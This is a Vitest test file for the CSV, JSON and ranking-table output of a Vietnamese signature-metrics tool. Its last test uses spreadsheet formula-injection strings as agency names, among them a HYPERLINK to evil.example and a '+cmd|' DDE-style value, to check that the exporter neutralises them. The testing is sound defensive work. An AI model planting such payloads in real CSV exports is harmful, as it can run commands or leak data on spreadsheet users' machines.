/** Metrics out: CSV for Excel (UTF-8 with BOM), JSON with rates beside counts, the ranking table. */
import { describe, expect, it } from 'vitest';
import { aggregate } from '../../src/metrics/aggregate.js';
import { checkIndicators, DEFAULT_INDICATORS } from '../../src/metrics/indicators.js';
import { metricsFromCsv, parseCsv, rankingTable, toCsv, toJsonDocument } from '../../src/metrics/output.js';
import type { DocumentReport } from '../../src/report/types.js';
import { roundTrip, sampleReport } from './reports.js';

const SET = ['pdf/person-then-organization.pdf', 'edxml/signed.edxml', 'edxml/trace-header-appended.edxml', 'pdf/unsigned-fields.pdf', 'cms/sha1.txt.p7s'];
// signed.edxml carries person-then-organization.pdf, and the formula test gives one report several
// agencies: these tests are about the output, so every report counts (copies: 'count').
const EVERY_REPORT = { copies: 'count' } as const;

describe('metrics output', () => {
  it('CSV starts with a byte-order mark and round-trips Vietnamese names', async () => {
    const metrics = aggregate(await Promise.all(SET.map(sampleReport)), { ...EVERY_REPORT, by: ['agency', 'province', 'month'] });
    const csv = toCsv(metrics);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(new TextEncoder().encode(csv).subarray(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    const rows = parseCsv(csv);
    expect(rows[0]!.slice(0, 6)).toEqual(['row', 'agency', 'province', 'month', 'agencyName', 'provinceName']);
    expect(rows).toContainEqual(expect.arrayContaining(['group', 'tax-code:0101234567', '63:01', '2025-03', 'UBND Tỉnh Thử Nghiệm', 'Thành phố Hà Nội']));
    expect(rows).toContainEqual(expect.arrayContaining(['organ-id:000.00.00.H99', 'Ủy ban nhân dân tỉnh Thử Nghiệm']));
    expect(metricsFromCsv(csv)).toEqual(metrics);
  });

  it('rates are derived from the counts written beside them, null without a denominator', async () => {
    const metrics = aggregate(await Promise.all(SET.map(sampleReport)), { ...EVERY_REPORT, by: ['province'] });
    const json = toJsonDocument(metrics);
    expect(json.totalRates['signedShare']).toBe(4 / 5);
    expect(json.totalRates['legallyCompleteShare']).toBe(3 / 5);
    expect(json.totalRates['weakAlgorithmShare']).toBe(1 / 4);
    expect(json.totalRates['agencyKnownShare']).toBe(3 / 5);
    expect(json.totalRates['governmentPkiShare']).toBe(0);
    const empty = toJsonDocument(aggregate([]));
    expect(empty.totalRates['signedShare']).toBeNull();
    expect(json.indicators).toMatchObject({ schema: 'kyso.indicators/1', official: false });
  });

  it('the ranking table orders groups by the chosen indicator, counts beside rates, in Vietnamese and English', async () => {
    const metrics = aggregate(await Promise.all(SET.map(sampleReport)), { ...EVERY_REPORT, by: ['province'] });
    const vi = rankingTable(metrics, { lang: 'vi', indicator: 'legallyCompleteShare' });
    expect(vi).toContain('Xếp theo: Tỷ lệ văn bản đủ chữ ký người có thẩm quyền và cơ quan (Nghị định 30/2020)');
    expect(vi).toMatch(/1 +Thành phố Hà Nội \(63:01\) +100,0 % +2\/2/);
    expect(vi).toMatch(/2 +tỉnh không xác định +33,3 % +1\/3/);
    expect(vi).toMatch(/Tổng cộng +60,0 % +3\/5/);
    const en = rankingTable(metrics, { lang: 'en', indicator: 'legallyCompleteShare' });
    expect(en).toMatch(/2 +province unknown +33\.3 % +1\/3/);
    expect(() => rankingTable(metrics, { indicator: 'noSuchIndicator' })).toThrow(TypeError);
  });

  it('an indicator set is checked before use', () => {
    expect(checkIndicators(JSON.parse(JSON.stringify(DEFAULT_INDICATORS)))).toEqual(DEFAULT_INDICATORS);
    expect(() => checkIndicators({ schema: 'kyso.indicators/1', version: '1', indicators: [{ id: 'x', numerator: 'a b', denominator: 'documents', vi: '', en: '' }] })).toThrow(TypeError);
    expect(() => checkIndicators({ schema: 'other', version: '1', indicators: [] })).toThrow(TypeError);
  });

  it('an agency name a spreadsheet would run as a formula comes out as text (a leading quote), and reads back as it was', async () => {
    // The sender writes its OrganName; metrics CSV shows it as agencyName. One document per hostile first character.
    const names = ['=HYPERLINK("http://evil.example/?x","Bấm")', '+1+cmd|x', '-2+3', '@SUM(A1)', '\tTAB', '\rCR', "'=already quoted", 'Ủy ban nhân dân'];
    const base = roundTrip(await sampleReport('edxml/signed.edxml'));
    const reports = names.map((name, i): DocumentReport => ({ ...base, facts: { ...base.facts!, agency: { ...base.facts!.agency!, id: `000.00.00.X0${i}`, key: `organ-id:000.00.00.X0${i}`, name } } }));
    const metrics = aggregate(reports, { ...EVERY_REPORT, by: ['agency'] });
    const csv = toCsv(metrics);
    // Each group row starts with these three raw cells (a CR inside a quoted cell is part of the cell).
    const starts = [
      `group,organ-id:000.00.00.X00,"'=HYPERLINK(""http://evil.example/?x"",""Bấm"")"`,
      `group,organ-id:000.00.00.X01,'+1+cmd|x`,
      `group,organ-id:000.00.00.X02,'-2+3`,
      `group,organ-id:000.00.00.X03,'@SUM(A1)`,
      `group,organ-id:000.00.00.X04,'\tTAB`,
      `group,organ-id:000.00.00.X05,"'\rCR"`,
      `group,organ-id:000.00.00.X06,''=already quoted`,
      `group,organ-id:000.00.00.X07,Ủy ban nhân dân`,
    ];
    for (const start of starts) expect(csv).toContain(`\r\n${start},`);
    expect(metricsFromCsv(toCsv(metrics))).toEqual(metrics);
  });
});
